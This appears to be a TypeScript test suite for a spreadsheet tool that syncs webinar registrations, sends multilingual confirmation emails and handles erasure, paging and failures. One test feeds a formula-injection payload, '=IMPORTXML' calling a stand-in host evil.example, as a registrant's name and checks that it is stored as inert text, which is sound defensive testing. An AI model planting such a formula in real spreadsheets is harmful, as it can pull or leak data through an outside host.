import { describe, expect, it } from 'vitest'
import { headerRow } from '../../../shared/workbook/tabs'
import { createTestbed, DNSSEC_WEBINAR } from '../testing/action-testbed'
import { runPublishWebinars } from './publish-webinars'
import { runSyncRegistrations } from './sync-registrations'
import { readCursor, SYNC_CURSOR_PROPERTY } from './sync-state'
import { runValidation } from './validate-workbook'

const HEADERS = headerRow('Registrations')

/** A testbed whose Webinars tab holds the DNSSEC webinar, published to the fake Worker. */
function syncBed(locale = 'en') {
  const bed = createTestbed({ locale })
  bed.fill('Webinars', [DNSSEC_WEBINAR])
  runPublishWebinars(bed.host)
  bed.fake.network.requests.length = 0
  bed.fake.spreadsheet.toasts.length = 0
  bed.fake.calls.reset()
  return bed
}

/** The Registrations rows, by header, as the sheet holds them. */
function rows(bed: ReturnType<typeof createTestbed>) {
  return bed
    .values('Registrations')
    .slice(1)
    .map((row) => Object.fromEntries(HEADERS.map((header, index) => [header, row[index]])))
}

function cellOf(bed: ReturnType<typeof createTestbed>, row: number, header: string) {
  return bed.fake.spreadsheet.sheet('Registrations').cellAt(row, HEADERS.indexOf(header) + 1)
}

function register(bed: ReturnType<typeof createTestbed>, count: number, fields = {}) {
  return Array.from({ length: count }, (_, index) =>
    bed.worker.register({
      id: `r-${String(index + 1).padStart(4, '0')}`,
      webinarSlug: 'dnssec-2023',
      name: `Persona ${index + 1}`,
      email: `persona${index + 1}@correo.example`,
      emailKey: `persona${index + 1}@correo.example`,
      ...fields,
    })
  )
}

describe('Sync webinar registrations', () => {
  it('appends new registrations, formula-safe, and emails each new seat in its language', () => {
    const bed = syncBed('es')
    bed.worker.register({
      id: 'r-1',
      webinarSlug: 'dnssec-2023',
      name: '=IMPORTXML("http://evil.example","//a")',
      email: 'zoë@correo.example',
      emailKey: 'zoë@correo.example',
      affiliation: '+1-555 Universidad',
      language: 'es',
    })
    bed.worker.register({
      id: 'r-2',
      webinarSlug: 'dnssec-2023',
      name: 'Jean-Édouard Baptiste',
      email: 'jean@exemple.fr',
      emailKey: 'jean@exemple.fr',
      country: 'HT',
      language: 'fr',
    })
    bed.worker.register({
      id: 'r-3',
      webinarSlug: 'dnssec-2023',
      status: 'waitlisted',
      language: 'pt',
    })

    const result = runSyncRegistrations(bed.host)
    expect(result).toMatchObject({
      ok: true,
      received: 3,
      added: 3,
      updated: 0,
      erased: 0,
      emailsSent: 2,
      emailsFailed: 0,
      more: false,
      cursor: '3',
      message:
        'Inscripciones sincronizadas. Cambios recibidos: 3 (nuevas: 3, actualizadas: 0, borradas: 0). Correos de confirmación enviados: 2.',
    })
    expect(rows(bed).map((row) => [row.ID, row.Status, row['Email sent'] !== ''])).toEqual([
      ['r-1', 'registered', true],
      ['r-2', 'registered', true],
      ['r-3', 'waitlisted', false],
    ])
    expect(cellOf(bed, 2, 'Name')).toMatchObject({
      value: '=IMPORTXML("http://evil.example","//a")',
      formula: '',
    })
    expect(cellOf(bed, 2, 'Affiliation')).toMatchObject({
      value: '+1-555 Universidad',
      formula: '',
    })
    expect(cellOf(bed, 2, 'Email')).toMatchObject({ value: 'zoë@correo.example', formula: '' })

    const [spanish, french] = bed.fake.mailbox.sent
    expect(spanish).toMatchObject({
      to: 'zoë@correo.example',
      subject: 'Su lugar está confirmado: DNSSEC en América Latina',
      name: 'LACRALO – Alcance y Participación',
      attachments: [
        {
          name: 'dnssec-2023.ics',
          contentType: 'text/calendar',
          text: expect.stringContaining('SUMMARY:dnssec-2023 (es)'),
        },
      ],
    })
    expect(spanish?.body).toContain('https://icann.zoom.us/j/123456789')
    expect(spanish?.body).toContain('lunes, 24 de abril de 2023')
    expect(french?.subject).toBe('Votre place est confirmée : DNSSEC in Latin America')
    expect(french?.attachments[0]?.text).toContain('(fr)')
    expect(bed.worker.visits.filter((visit) => visit.pathWithQuery.includes('.ics'))).toHaveLength(
      2
    )
  })

  it('adds nothing and emails no one the second time', () => {
    const bed = syncBed()
    register(bed, 3)
    runSyncRegistrations(bed.host)
    const before = bed.values('Registrations')
    const again = runSyncRegistrations(bed.newHost())
    expect(again).toMatchObject({
      ok: true,
      received: 0,
      emailsSent: 0,
      message: 'Registrations are up to date: nothing has changed since the last sync.',
    })
    expect(bed.values('Registrations')).toEqual(before)
    expect(bed.fake.mailbox.sent).toHaveLength(3)
  })

  it('updates the row of a cancelled or promoted registration, and emails the promoted one', () => {
    const bed = syncBed()
    register(bed, 2)
    bed.worker.register({
      id: 'r-w',
      webinarSlug: 'dnssec-2023',
      status: 'waitlisted',
      email: 'w@x.example',
    })
    runSyncRegistrations(bed.host)
    bed.worker.change('r-0001', { status: 'cancelled', cancelledAt: bed.now().toISOString() })
    bed.worker.change('r-w', { status: 'registered', promotedAt: bed.now().toISOString() })
    const result = runSyncRegistrations(bed.newHost())
    expect(result).toMatchObject({ ok: true, received: 2, added: 0, updated: 2, emailsSent: 1 })
    expect(rows(bed).map((row) => [row.ID, row.Status])).toEqual([
      ['r-0001', 'cancelled'],
      ['r-0002', 'registered'],
      ['r-w', 'registered'],
    ])
    expect(bed.fake.mailbox.sent.map((email) => email.to)).toEqual([
      'persona1@correo.example',
      'persona2@correo.example',
      'w@x.example',
    ])
  })

  it('blanks the personal cells of an erased registration and says so in its row', () => {
    const bed = syncBed('pt')
    register(bed, 2, { affiliation: 'ISOC Brasil' })
    runSyncRegistrations(bed.host)
    bed.worker.erase('r-0002')
    // Erased before the sheet ever had it: there is nothing to blank, and no row is added.
    bed.worker.register({ id: 'r-9', webinarSlug: 'dnssec-2023' })
    bed.worker.erase('r-9')
    const result = runSyncRegistrations(bed.newHost())
    expect(result).toMatchObject({ ok: true, received: 2, erased: 1, added: 0, updated: 0 })
    expect(rows(bed)).toHaveLength(2)
    expect(rows(bed)[1]).toMatchObject({
      ID: 'r-0002',
      Name: '(apagado a pedido da pessoa)',
      Email: '',
      'Email key': '',
      Country: '',
      Affiliation: '',
      Status: 'cancelled',
    })
    const checked = runValidation(bed.newHost())
    expect(
      checked.ok && checked.problems.filter((problem) => problem.tab === 'Registrations')
    ).toEqual([])
  })

  it('gives every registration exactly one row and one email when a run stops between pages', () => {
    const bed = syncBed()
    register(bed, 5)
    bed.worker.intercept((request) =>
      request.url.includes('after=2&')
        ? {
            status: 500,
            json: { error: { code: 'internal_error', message: 'D1 is unavailable.' } },
          }
        : null
    )
    const stopped = runSyncRegistrations(bed.host, { pageSize: 2 })
    expect(stopped).toMatchObject({ ok: false, code: 'worker-failed' })
    expect(stopped.message).toBe(
      'The sync stopped: The web service answered with an error (HTTP 500): D1 is unavailable. The rows written before it stopped are kept (new: 2, updated: 0), and the next sync continues from there.'
    )
    expect(rows(bed).map((row) => row.ID)).toEqual(['r-0001', 'r-0002'])
    const script = bed.fake.globals.PropertiesService.getScriptProperties()
    expect(readCursor(script, bed.worker.baseUrl)).toBe('2')

    bed.worker.intercept(null)
    const resumed = runSyncRegistrations(bed.newHost(), { pageSize: 2 })
    expect(resumed).toMatchObject({ ok: true, received: 3, added: 3 })
    runSyncRegistrations(bed.newHost(), { pageSize: 2 })
    expect(rows(bed).map((row) => row.ID)).toEqual([
      'r-0001',
      'r-0002',
      'r-0003',
      'r-0004',
      'r-0005',
    ])
    const recipients = bed.fake.mailbox.sent.map((email) => email.to)
    expect(recipients).toHaveLength(5)
    expect(new Set(recipients).size).toBe(5)
  })

  it('writes nothing and keeps the cursor when a page cannot be written', () => {
    const bed = syncBed()
    register(bed, 3)
    const sheet = bed.fake.spreadsheet.sheet('Registrations')
    const column = HEADERS.indexOf('Consent version') + 1
    sheet.cellForWrite(1, column).value = 'Consent text'
    const failed = runSyncRegistrations(bed.host)
    expect(failed).toMatchObject({ ok: false, code: 'missing-column' })
    expect(rows(bed)).toEqual([])
    expect(bed.fake.mailbox.sent).toEqual([])
    const script = bed.fake.globals.PropertiesService.getScriptProperties()
    expect(script.getProperty(SYNC_CURSOR_PROPERTY)).toBeNull()

    sheet.cellForWrite(1, column).value = 'Consent version'
    expect(runSyncRegistrations(bed.newHost())).toMatchObject({ ok: true, added: 3, emailsSent: 3 })
  })

  it('sends no second email when saving the cursor fails after the page is written', () => {
    const bed = syncBed()
    register(bed, 2)
    const script = bed.fake.globals.PropertiesService.getScriptProperties()
    const setProperty = script.setProperty
    let failures = 1
    script.setProperty = (key, value) => {
      if (key === SYNC_CURSOR_PROPERTY && failures-- > 0)
        throw new Error('Service invoked too many times: properties')
      return setProperty(key, value)
    }
    expect(() => runSyncRegistrations(bed.host)).toThrow(/too many times/)
    expect(rows(bed)).toHaveLength(2)
    const again = runSyncRegistrations(bed.newHost())
    expect(again).toMatchObject({ ok: true, received: 2, added: 0, emailsSent: 0 })
    expect(rows(bed)).toHaveLength(2)
    expect(bed.fake.mailbox.sent).toHaveLength(2)
  })

  it('clears the mark of an email Gmail refused, and sends it at the next sync', () => {
    const bed = syncBed('fr')
    register(bed, 2)
    bed.fake.mailbox.failWith('Service invoked too many times for one day: email.', (to) =>
      to.startsWith('persona2')
    )
    const first = runSyncRegistrations(bed.host)
    expect(first).toMatchObject({ ok: true, emailsSent: 1, emailsFailed: 1 })
    expect(first.ok && first.notes).toEqual([
      'Courriels de confirmation non envoyés : 1 (Service invoked too many times for one day: email.). Ils seront envoyés lors de la prochaine synchronisation.',
    ])
    expect(rows(bed).map((row) => row['Email sent'] !== '')).toEqual([true, false])

    bed.fake.mailbox.recover()
    const second = runSyncRegistrations(bed.newHost())
    expect(second).toMatchObject({ ok: true, received: 0, emailsSent: 1 })
    expect(bed.fake.mailbox.sent.map((email) => email.to)).toEqual([
      'persona1@correo.example',
      'persona2@correo.example',
    ])
    expect(rows(bed).every((row) => row['Email sent'] !== '')).toBe(true)
  })

  it('emails no one for a webinar that is not in the Webinars tab, or that is over', () => {
    const bed = syncBed()
    bed.worker.register({ id: 'r-x', webinarSlug: 'ua-2023' })
    const result = runSyncRegistrations(bed.host)
    expect(result).toMatchObject({ ok: true, added: 1, emailsSent: 0 })
    expect(result.ok && result.notes).toEqual([
      "No confirmation email for registrations to 'ua-2023' (1): the Webinars tab has no valid row for that webinar.",
    ])
    bed.advance(60 * 24 * 3600 * 1000)
    bed.worker.register({ id: 'r-late', webinarSlug: 'dnssec-2023' })
    expect(runSyncRegistrations(bed.newHost())).toMatchObject({ ok: true, added: 1, emailsSent: 0 })
    expect(bed.fake.mailbox.sent).toEqual([])
  })

  it('writes 1,000 registrations in one batch per page', () => {
    const bed = syncBed()
    register(bed, 1_000)
    const result = runSyncRegistrations(bed.host, { pageSize: 500 })
    expect(result).toMatchObject({ ok: true, received: 1_000, added: 1_000, emailsSent: 1_000 })
    expect(rows(bed)).toHaveLength(1_000)
    expect(bed.fake.calls.count('setValues')).toBe(2)
    expect(bed.fake.calls.writes()).toBeLessThanOrEqual(3)
    // Two pages, and the webinar's calendar file once for the one language.
    expect(bed.fake.network.requests).toHaveLength(3)
  })

  it('stops to stay within Apps Script’s time limit and says more is waiting', () => {
    const bed = syncBed()
    register(bed, 6)
    const host = bed.newHost()
    const fetch = bed.fake.globals.UrlFetchApp.fetch
    bed.fake.globals.UrlFetchApp.fetch = (url, params) => {
      bed.advance(2 * 60_000)
      return fetch(url, params)
    }
    const result = runSyncRegistrations(host, { pageSize: 2 })
    expect(result).toMatchObject({ ok: true, more: true })
    expect(result.ok && result.notes).toContain(
      'More changes are waiting: the sync stopped to stay within the Apps Script time limit. Run it again to continue.'
    )
    expect(rows(bed).length).toBeLessThan(6)
  })

  it('writes nothing from an answer that is not a page of the change feed', () => {
    const bed = syncBed()
    register(bed, 2)
    bed.worker.intercept((request) =>
      request.url.includes('/admin/registrations')
        ? {
            status: 200,
            json: { registrations: [{ id: 'r-1', name: '=1+1' }], nextCursor: '9', hasMore: false },
          }
        : null
    )
    const result = runSyncRegistrations(bed.host)
    expect(result).toMatchObject({ ok: false, code: 'unexpected-answer' })
    expect(rows(bed)).toEqual([])
    const script = bed.fake.globals.PropertiesService.getScriptProperties()
    expect(script.getProperty(SYNC_CURSOR_PROPERTY)).toBeNull()
  })

  it('says what to do when the Worker is not set up, and records the failed run', () => {
    const bed = createTestbed({ configured: false })
    const result = runSyncRegistrations(bed.host)
    expect(result).toMatchObject({ ok: false, code: 'not-configured' })
    expect(bed.fake.network.requests).toEqual([])
  })
})
